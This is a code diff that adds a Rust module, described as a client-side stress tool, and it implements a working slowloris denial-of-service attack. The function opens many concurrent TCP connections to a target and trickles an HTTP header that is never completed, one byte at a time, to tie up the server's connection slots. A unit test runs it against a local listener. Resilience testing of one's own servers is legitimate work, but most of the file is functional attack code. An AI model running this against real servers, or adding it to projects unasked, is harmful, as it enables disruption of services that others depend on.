@@ -0,0 +1,134 @@
+// Client-side stress module for testing how servers cope with abusive clients
+
+use futures::future::join_all;
+use std::net::SocketAddr;
+use std::time::{Duration, Instant};
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio::time::{sleep, timeout};
+
+const STORM_CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
+
+/// Outcome of a connection storm against one target
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+pub struct StormStats {
+    pub attempted: usize,        // Connections tried
+    pub established: usize,      // Connections that completed the handshake
+    pub closed_by_server: usize, // Established connections the server dropped mid-trickle
+    pub bytes_sent: u64,
+    pub elapsed: Duration,
+}
+
+/// Partial HTTP request trickled by `slowloris`
+/// It never ends with the blank line that would complete the header block
+pub fn slowloris_request(target: SocketAddr) -> Vec<u8> {
+    format!(
+        "GET / HTTP/1.1\r\nHost: {}\r\nAccept: */*\r\nX-a: b\r\n",
+        target.ip()
+    )
+    .into_bytes()
+}
+
+/// Opens `connections` connections to `target` and sends `slowloris_request`
+/// one byte per `byte_interval` on each, holding them open until every byte is sent
+/// or the server closes them
+pub async fn slowloris(
+    target: SocketAddr,
+    connections: usize,
+    byte_interval: Duration,
+) -> StormStats {
+    let start = Instant::now();
+    let request = slowloris_request(target);
+
+    // Establish every connection before trickling so they are held concurrently
+    let streams = join_all((0..connections).map(|_| async {
+        timeout(STORM_CONNECT_TIMEOUT, TcpStream::connect(target))
+            .await
+            .ok()
+            .and_then(Result::ok)
+    }))
+    .await;
+
+    let mut stats = StormStats {
+        attempted: connections,
+        ..Default::default()
+    };
+    let outcomes = join_all(streams.into_iter().flatten().map(|mut stream| {
+        let request = &request;
+        async move {
+            let mut sent = 0_u64;
+            for byte in request {
+                if stream.write_all(std::slice::from_ref(byte)).await.is_err() {
+                    return (sent, true);
+                }
+                sent += 1;
+                sleep(byte_interval).await;
+            }
+            (sent, false)
+        }
+    }))
+    .await;
+
+    for (sent, closed) in outcomes {
+        stats.established += 1;
+        stats.bytes_sent += sent;
+        stats.closed_by_server += usize::from(closed);
+    }
+    stats.elapsed = start.elapsed();
+    stats
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::{Arc, Mutex};
+    use tokio::io::AsyncReadExt;
+    use tokio::net::TcpListener;
+
+    #[tokio::test]
+    async fn test_slowloris_trickles_bytes() {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = listener.local_addr().unwrap();
+        // Arrival times of every read, per connection
+        let arrivals: Arc<Mutex<Vec<Vec<Instant>>>> = Arc::default();
+
+        let recorded = Arc::clone(&arrivals);
+        tokio::spawn(async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                let recorded = Arc::clone(&recorded);
+                tokio::spawn(async move {
+                    let mut times = Vec::new();
+                    let mut buf = [0_u8; 64];
+                    while let Ok(n) = socket.read(&mut buf).await {
+                        if n == 0 {
+                            break;
+                        }
+                        times.push(Instant::now());
+                    }
+                    recorded.lock().unwrap().push(times);
+                });
+            }
+        });
+
+        let interval = Duration::from_millis(10);
+        let stats = slowloris(addr, 3, interval).await;
+        let request_len = slowloris_request(addr).len();
+
+        assert_eq!(stats.attempted, 3);
+        assert_eq!(stats.established, 3);
+        assert_eq!(stats.closed_by_server, 0);
+        assert_eq!(stats.bytes_sent, 3 * request_len as u64);
+        assert!(stats.elapsed >= interval * request_len as u32);
+
+        // Give the server a moment to see the connections close
+        sleep(Duration::from_millis(50)).await;
+        let arrivals = arrivals.lock().unwrap();
+        assert_eq!(arrivals.len(), 3);
+        for times in arrivals.iter() {
+            // Bytes arrive one at a time, spaced by roughly the interval
+            assert!(times.len() > request_len / 2);
+            let span = *times.last().unwrap() - times[0];
+            assert!(span >= interval * (times.len() as u32 - 1) / 2);
+        }
+    }
+}